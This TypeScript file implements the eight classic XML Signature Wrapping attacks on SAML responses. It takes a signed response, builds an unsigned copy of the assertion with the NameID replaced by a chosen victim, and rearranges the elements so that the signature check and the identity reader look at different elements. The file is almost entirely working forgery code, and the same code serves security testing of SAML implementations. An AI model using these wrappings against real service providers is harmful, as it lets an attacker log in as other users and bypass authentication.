import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#';
const PROTOCOL = 'urn:oasis:names:tc:SAML:2.0:protocol';
const EVIL_ID = '_evil';

/** The parts of a signed response that wrapping moves about. */
interface Parts {
  readonly document: Document;
  readonly response: Element;
  readonly assertion: Element;
  /** A copy with another name in it, without a signature. */
  evil(of: Element): Element;
}

/** One way to have the verifier and the reader look at different elements. */
export type Wrapping = (parts: Parts) => void;

/** The eight classic wrappings ("On Breaking SAML", Somorovsky and others, USENIX Security 2012). */
export const WRAPPINGS: Readonly<Record<string, Wrapping>> = {
  'SAML-01: XSW1, the original response in the signature of a forged one': ({ document, response, evil }) => {
    const forged = evil(response);
    const signature = signatureOf(response) ?? signatureOf(assertionIn(response));
    const original = response.cloneNode(true) as Element;
    document.replaceChild(forged, response);
    if (!signature) return;
    const moved = signature.cloneNode(true);
    moved.appendChild(original);
    forged.insertBefore(moved, forged.childNodes[1] ?? null);
  },
  'SAML-02: XSW2, the original response before the signature': ({ document, response, evil }) => {
    const forged = evil(response);
    const signature = signatureOf(response) ?? signatureOf(assertionIn(response));
    const original = response.cloneNode(true) as Element;
    document.replaceChild(forged, response);
    forged.insertBefore(original, forged.childNodes[1] ?? null);
    if (signature) forged.insertBefore(signature.cloneNode(true), forged.childNodes[2] ?? null);
  },
  'SAML-03: XSW3, a forged assertion before the original': ({ response, assertion, evil }) => {
    response.insertBefore(evil(assertion), assertion);
  },
  'SAML-04: XSW4, the original within a forged assertion': ({ response, assertion, evil }) => {
    const forged = evil(assertion);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
  },
  'SAML-05: XSW5, the signed assertion changed, the original at the end': ({ response, assertion, evil }) => {
    const forged = evil(assertion);
    const signature = signatureOf(assertion);
    response.replaceChild(forged, assertion);
    if (signature) {
      forged.insertBefore(signature.cloneNode(true), forged.childNodes[1] ?? null);
      assertion.removeChild(signature);
    }
    response.appendChild(assertion);
  },
  'SAML-06: XSW6, the original in the signature of a forged assertion': ({ response, assertion, evil }) => {
    const forged = evil(assertion);
    const signature = signatureOf(assertion) ?? signatureOf(response);
    response.replaceChild(forged, assertion);
    const moved = signature?.cloneNode(true);
    if (!moved) return;
    moved.appendChild(assertion);
    forged.insertBefore(moved, forged.childNodes[1] ?? null);
  },
  'SAML-07: XSW7, a forged assertion in Extensions': ({ document, response, assertion, evil }) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    const forged = evil(assertion);
    forged.setAttribute('ID', assertion.getAttribute('ID') ?? '');
    extensions.appendChild(forged);
    response.insertBefore(extensions, assertion);
  },
  'SAML-08: XSW8, the original in an object of the signature': ({ document, response, assertion, evil }) => {
    const forged = evil(assertion);
    const signature = signatureOf(assertion) ?? signatureOf(response);
    response.replaceChild(forged, assertion);
    const object = document.createElementNS(SIGNATURE, 'ds:Object');
    object.appendChild(assertion);
    const moved = signature?.cloneNode(true);
    moved?.appendChild(object);
    if (moved) forged.insertBefore(moved, forged.childNodes[1] ?? null);
  },
};

/** A signed response, wrapped so that `victim` seems to be vouched for. */
export function wrapped(xml: string, wrapping: Wrapping, nameId: string, victim: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const evil = (element: Element): Element => {
    const copy = element.cloneNode(true) as Element;
    for (const signature of Array.from(copy.getElementsByTagNameNS(SIGNATURE, 'Signature')))
      signature.parentNode?.removeChild(signature);
    copy.setAttribute('ID', EVIL_ID);
    const named = Array.from(copy.getElementsByTagName('*')).find(({ localName }) => localName === 'NameID');
    if (named?.textContent !== nameId) throw new Error('There is no name to be replaced.');
    named.textContent = victim;
    return copy;
  };
  wrapping({ document, response, assertion: assertionIn(response), evil });
  return new XMLSerializer().serializeToString(document);
}

function assertionIn(response: Element): Element {
  const found = Array.from(response.childNodes).find((node) => (node as Element).localName === 'Assertion');
  if (!found) throw new Error('There is no assertion.');
  return found as Element;
}

function signatureOf(element: Element): Element | undefined {
  return Array.from(element.childNodes).find((node) => (node as Element).localName === 'Signature') as
    | Element
    | undefined;
}
